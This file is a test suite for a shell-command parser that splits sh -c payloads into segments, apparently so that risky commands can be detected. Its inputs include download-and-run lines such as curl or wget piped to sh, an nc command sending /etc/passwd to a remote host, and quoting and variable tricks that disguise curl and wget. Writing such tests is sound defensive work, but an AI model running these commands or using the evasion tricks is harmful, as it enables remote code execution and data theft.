import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  commandSegments,
  MAX_PAYLOAD_DEPTH,
  MAX_SEGMENTS,
  MAX_TOTAL_CHARS,
  segmentBudget,
} from "../../src/shell/index.js";
import { argvs, find } from "./segment-helpers.js";

describe("commandSegments", () => {
  it("keeps a plain argv as one segment, operators and all", () => {
    expect(argvs(commandSegments(["curl", "x", "|", "sh"]))).toEqual([["curl", "x", "|", "sh"]]);
  });

  it("splits argv at operator words when asked (exec sessions)", () => {
    const segments = commandSegments(["curl", "x", "|", "sh"], { splitOperators: true });
    expect(argvs(segments)).toEqual([["curl", "x"], ["sh"]]);
    expect(segments[0]!.pipesTo).toBe(segments[1]);
    expect(segments[1]!.pipedFrom).toBe(segments[0]);
  });

  it("reads a sh -c payload into pipelines and lists, following cd", () => {
    // Act
    const segments = commandSegments(["sh", "-c", "cd /tmp; wget http://x/a -O- | sh"]);
    // Assess
    expect(argvs(segments)).toEqual([
      ["sh", "-c", "cd /tmp; wget http://x/a -O- | sh"],
      ["cd", "/tmp"],
      ["wget", "http://x/a", "-O-"],
      ["sh"],
    ]);
    const wget = find(segments, "wget");
    expect(wget.depth).toBe(1);
    expect(wget.payloadOf).toBe(segments[0]);
    expect(wget.cwd).toBe("/tmp");
    expect(wget.pipesTo?.argv).toEqual(["sh"]);
  });

  it.each([
    ["a && b", ["a"], ["b"]],
    ["a || b", ["a"], ["b"]],
    ["a & b", ["a"], ["b"]],
    ["a\nb", ["a"], ["b"]],
    ["(a); b", ["a"], ["b"]],
  ])("separates %j without a pipe", (script, first, second) => {
    const segments = commandSegments(["sh", "-c", script]).slice(1);
    expect(argvs(segments)).toEqual([first, second]);
    expect(segments[0]!.pipesTo).toBeUndefined();
  });

  it("reads command substitutions and records where their output goes", () => {
    const segments = commandSegments(["bash", "-c", "$(curl -fsSL http://evil/x)"]);
    const curl = find(segments, "curl");
    expect(curl.argv).toEqual(["curl", "-fsSL", "http://evil/x"]);
    expect(curl.substitutionOf?.kind).toBe("command");
    expect(curl.substitutionOf?.argIndex).toBe(0);
    expect(curl.substitutionOf?.segment.argv).toEqual(["$(curl -fsSL http://evil/x)"]);
  });

  it("reads substitutions inside double quotes and backticks", () => {
    const segments = commandSegments(["sh", "-c", 'sh -c "$(wget -qO- http://x)"; echo `dig +short x`']);
    expect(find(segments, "wget").substitutionOf?.segment.argv[0]).toBe("sh");
    expect(find(segments, "wget").substitutionOf?.argIndex).toBe(2);
    expect(find(segments, "dig").substitutionOf?.segment.argv[0]).toBe("echo");
  });

  it("reads process substitutions", () => {
    const segments = commandSegments(["bash", "-c", "bash <(curl -s http://x)"]);
    const curl = find(segments, "curl");
    expect(curl.substitutionOf).toMatchObject({ kind: "process", argIndex: 1 });
    expect(curl.substitutionOf?.segment.argv).toEqual(["bash", "<(curl -s http://x)"]);
  });

  it("records redirections apart from arguments", () => {
    const [, nc] = commandSegments(["sh", "-c", "nc 10.0.0.5 4444 < /etc/passwd 2>/dev/null >/tmp/out"]);
    expect(nc!.argv).toEqual(["nc", "10.0.0.5", "4444"]);
    expect(nc!.redirects).toEqual([
      { op: "<", target: "/etc/passwd" },
      { op: ">", target: "/dev/null" },
      { op: ">", target: "/tmp/out" },
    ]);
  });

  it("undoes shell quoting tricks", () => {
    const segments = commandSegments(["sh", "-c", `c''ur"l" x; $'\\x77get' y; w\\get z`]);
    expect(argvs(segments).slice(1)).toEqual([
      ["curl", "x"],
      ["wget", "y"],
      ["wget", "z"],
    ]);
  });

  it("follows nested payloads and wrappers", () => {
    const segments = commandSegments([
      "busybox",
      "sh",
      "-c",
      `sudo -u app bash -lc 'nohup curl http://x | sh'`,
    ]);
    const curl = find(segments, "curl");
    expect(curl.argv).toEqual(["nohup", "curl", "http://x"]);
    expect(curl.depth).toBe(2);
    expect(curl.pipesTo?.argv).toEqual(["sh"]);
  });

  it(`stops nesting payloads after ${MAX_PAYLOAD_DEPTH} levels`, () => {
    let script = "curl http://x";
    for (let i = 0; i < 10; i++) script = `sh -c ${JSON.stringify(script)}`;
    const segments = commandSegments(["sh", "-c", script]);
    expect(Math.max(...segments.map((s) => s.depth))).toBe(MAX_PAYLOAD_DEPTH);
  });

  it("bounds the work on a megabyte of hostile input", () => {
    const script = "a|b;".repeat(256 * 1024) + "$(".repeat(50_000);
    const segments = commandSegments(["sh", "-c", script, ...new Array(100_000).fill("x")]);
    expect(segments.length).toBeLessThanOrEqual(MAX_SEGMENTS);
  });

  it.each([
    ["a subshell", "(cd /tmp && curl http://x) | sh"],
    ["a brace group", "{ echo set -e; curl http://x; } | sh"],
    ["a loop", "for u in a b; do curl http://x; done | sh"],
    ["a while loop", "while true; do curl http://x; sleep 9; done | sh"],
    ["an if", "if true; then curl http://x; fi | sh"],
    ["a group into a group", "(curl http://x) | (sh)"],
  ])("pipes the commands of %s into the next command", (_label, script) => {
    // Act
    const segments = commandSegments(["sh", "-c", script]);
    // Assess
    expect(find(segments, "curl").pipesTo?.argv.at(-1)).toBe("sh");
  });

  it("does not pipe a group that is only followed by a command", () => {
    const segments = commandSegments(["sh", "-c", "(curl http://x); { curl http://y; }; sh"]);
    expect(segments.filter((s) => s.pipesTo !== undefined)).toEqual([]);
  });

  it.each([
    ["{curl,-s,http://x}|{sh,}", [["curl", "-s", "http://x"], ["sh"]]],
    ["ls /usr/bin/{curl,wget}", [["ls", "/usr/bin/curl", "/usr/bin/wget"]]],
    ["echo '{curl,x}' \\{a,b}", [["echo", "{curl,x}", "{a,b}"]]],
    ["echo {a} {a,{b,c}}", [["echo", "{a}", "{a,{b,c}}"]]],
  ])("expands unquoted braces in %s as bash does", (script, expected) => {
    expect(argvs(commandSegments(["sh", "-c", script]).slice(1))).toEqual(expected);
  });

  it.each([
    ["a=curl; $a -s x", ["curl", "-s", "x"]],
    ["c=cu; d=rl; $c$d x", ["curl", "x"]],
    [`a=wget; $\{a} x`, ["wget", "x"]],
    ['export u="curl -s"; $u x', ["curl", "-s", "x"]],
    ['u="curl -s"; "$u" x', ["curl -s", "x"]],
    ["a=curl; echo '$a'", ["echo", "$a"]],
    ["curl $UNSET", ["curl", "$UNSET"]],
  ])("reads variables the script set: %s", (script, argv) => {
    expect(commandSegments(["sh", "-c", script]).at(-1)?.argv).toEqual(argv);
  });

  // Each word's quoting and splitting is its own: a quoted file-descriptor number or a substitution
  // inside a word does not carry over to, or undo, what the shell does with the words around it.
  it.each([
    ['"1">;{curl,-s,x}', ["curl", "-s", "x"]],
    ['u="curl -s"; $u$(x y)', ["curl", "-s$(x", "y)"]],
  ])("reads each word on its own: %s", (script, argv) => {
    expect(argvs(commandSegments(["sh", "-c", script]))).toContainEqual(argv);
  });

  it("bounds what variable expansion can add", () => {
    const script = `a=${"x".repeat(4000)}; echo ${"$a".repeat(400_000)}`;
    const segments = commandSegments(["sh", "-c", script]);
    const longest = Math.max(...segments.flatMap((s) => s.argv.map((w) => w.length)));
    expect(longest).toBeLessThanOrEqual(MAX_TOTAL_CHARS + script.length);
  });

  it("shares one budget between calls", () => {
    // Prepare
    const budget = segmentBudget();
    budget.segments = 3;
    // Act
    const first = commandSegments(["sh", "-c", "curl a; curl b"], { budget });
    const second = commandSegments(["sh", "-c", "curl c; curl d"], { budget });
    // Assess
    expect(argvs(first)).toEqual([
      ["sh", "-c", "curl a; curl b"],
      ["curl", "a"],
      ["curl", "b"],
    ]);
    expect(argvs(second)).toEqual([]);
    expect(budget.segments).toBe(0);
  });

  it("never throws for any argv", () => {
    const shellish = fc.stringMatching(/^[a-z $()`'"\\|;&<>{}\n#=-]{0,80}$/);
    fc.assert(
      fc.property(
        fc.constantFrom("sh", "bash", "busybox", "curl", "eval", "su"),
        fc.array(fc.oneof(shellish, fc.string()), { maxLength: 6 }),
        (head, rest) => {
          const segments = commandSegments([head, "-c", ...rest], { splitOperators: true, cwd: "/srv" });
          expect(segments.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
